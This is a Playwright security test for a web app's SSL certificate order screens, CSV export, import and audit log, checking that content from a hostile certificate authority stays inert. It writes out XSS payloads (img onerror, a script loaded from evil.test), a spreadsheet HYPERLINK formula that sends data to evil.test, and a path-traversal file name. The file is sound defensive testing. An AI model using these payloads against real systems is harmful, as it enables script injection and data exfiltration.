import { readFile } from "node:fs/promises";
import type { Page, Response } from "@playwright/test";
import { enter, expect, keyFile, mailFor, test, type World } from "../world.ts";

// A CA that was taken over writes scripts into everything it may name. Whatever screen shows it, it stays text.

const image = `<img src="https://evil.test/x.png" onerror="window.hit=1">`;
const script = `"><script src="https://evil.test/x.js"></script><svg/onload="window.hit=1">`;
const formula = `=HYPERLINK("https://evil.test/?"&A1)`;

/** What must never be seen: a dialog, a call outside, a script that ran, a policy that had to step in. */
async function watch(page: Page, world: World) {
  const seen: string[] = [];
  const answers: Response[] = [];
  page.on("dialog", async (dialog) => {
    // The import asks before it is left with what was dropped into it.
    if (dialog.type() === "beforeunload") return await dialog.accept();
    seen.push(`dialog ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.on("request", (request) => {
    const url = new URL(request.url());
    if (url.origin !== world.url && url.protocol.startsWith("http")) seen.push(`request ${url}`);
  });
  page.on("response", (answer) => answers.push(answer));
  page.on("pageerror", (error) => seen.push(`error ${error.message}`));
  await page.exposeFunction("tellViolation", (what: string) => seen.push(`policy ${what}`));
  await page.addInitScript(`document.addEventListener("securitypolicyviolation", (event) =>
    window.tellViolation([event.effectiveDirective, event.blockedURI, event.sample].join(" ")));`);
  return {
    answers,
    async expectNothing(where: string) {
      expect(await page.evaluate("window.hit"), where).toBeUndefined();
      expect(seen, where).toEqual([]);
    },
  };
}

test("whatever a hostile CA writes into its orders, mails and messages stays text on every screen, in both languages", async ({
  page,
  world,
}) => {
  const order = await world.control.placeOrder({
    commonName: "hostile.example.test",
    dnsNames: ["hostile.example.test", `${image}.example.test`],
    product: script,
    organization: image,
    vendorStatus: `${formula}${image}`,
    approverEmail: `"${script}"@example.test`,
    technicalEmail: `${image}@example.test`,
  });
  const named = await world.control.placeOrder({
    commonName: image,
    dnsNames: ["named.example.test"],
    approverEmail: "admin@named.example.test",
  });
  const watched = await watch(page, world);
  await enter(page, world);
  await page.getByRole("button", { name: "Sync now" }).click();
  for (const { id } of [order, named]) {
    for (const language of ["/de", "/en"]) {
      await page.goto(`${world.url}${language}/security/ssl/orders?q=${id}`);
      const link = page.locator(`table a[href*="/security/ssl/orders/"]`);
      await expect(link).toHaveCount(1);
      await link.click();
      await expect(page.getByText(String(id)).first()).toBeVisible();
      await watched.expectNothing(`the order ${id} ${language}`);
    }
  }
  await page.goto(`${world.url}/en/security/ssl/orders?q=${order.id}`);
  const saving = page.waitForEvent("download");
  await page.getByRole("link", { name: /CSV/ }).click();
  const csv = await readFile(await (await saving).path(), "utf8");
  expect(csv).toContain(`'=HYPERLINK`);
  expect(csv).not.toMatch(/(^|[,;"\n])[=+@-]/m);
  await page.goto(`${world.url}/security/ssl/orders?q=${named.id}`);
  await world.control.setFault("read", named.id, {
    status: 500,
    body: { error: `${image}${script}`, code: script },
  });
  const dialog = page.getByRole("dialog");
  await page.getByRole("button", { name: /^Send, / }).click();
  await expect(dialog.getByText(/onerror/).first()).toBeVisible();
  await watched.expectNothing("the dialog with what the CA says");
  await dialog.getByRole("button", { name: "Cancel" }).click();
  await world.control.clearFaults();
  await page.getByRole("button", { name: /^Send, / }).click();
  await dialog.getByRole("button", { name: "Resend email" }).click();
  await expect(dialog.getByRole("heading", { name: "The CA accepted the request" })).toBeVisible();
  await page.goto(`${world.url}/security/ssl/certificates/import`);
  const mail = await mailFor(world, named.id);
  const hostile = { ...mail, name: `../../${image}.eml` };
  await page
    .locator("input[type=file]")
    .first()
    .setInputFiles([hostile, { ...keyFile(named.privateKeyPem ?? ""), name: `${script}.pem` }]);
  await expect(page.getByText(/onerror/).first()).toBeVisible();
  await watched.expectNothing("the import");
  for (const path of ["/ca-accounts", "/security/ssl/certificates", "/account"]) {
    await page.goto(`${world.url}${path}`);
    await expect(page.getByRole("heading").first()).toBeVisible();
    await watched.expectNothing(path);
  }
  await page.goto(`${world.url}/audit-log`);
  await expect(
    page
      .locator("[data-entry]")
      .getByText(/onerror/)
      .first(),
  ).toBeVisible();
  await watched.expectNothing("the audit log");
  await expectSafeHeaders(watched.answers, world);
});

/** Every page, file, answer and redirect that was met on the way. */
async function expectSafeHeaders(answers: readonly Response[], world: World): Promise<void> {
  const own = answers.filter((answer) => answer.url().startsWith(world.url));
  expect(own.length).toBeGreaterThan(30);
  for (const answer of own) {
    const headers = await answer.allHeaders();
    const isPage = headers["content-type"]?.startsWith("text/html");
    expect(headers, answer.url()).toMatchObject({
      "content-security-policy": expect.stringMatching(
        isPage ? /script-src 'self' 'nonce-[\w+/=]+'.*frame-ancestors 'none'/ : /frame-ancestors 'none'/,
      ),
      "cross-origin-opener-policy": "same-origin",
      "cross-origin-resource-policy": "same-origin",
      "permissions-policy": expect.stringContaining("camera=()"),
      "referrer-policy": "same-origin",
      "x-content-type-options": "nosniff",
    });
    const policy = (headers["content-security-policy"] ?? "").replace("style-src-attr 'unsafe-inline'", "");
    expect(policy, answer.url()).not.toContain("unsafe");
    expect(Object.keys(headers)).not.toContain("x-powered-by");
    expect(Object.keys(headers)).not.toContain("server");
  }
}
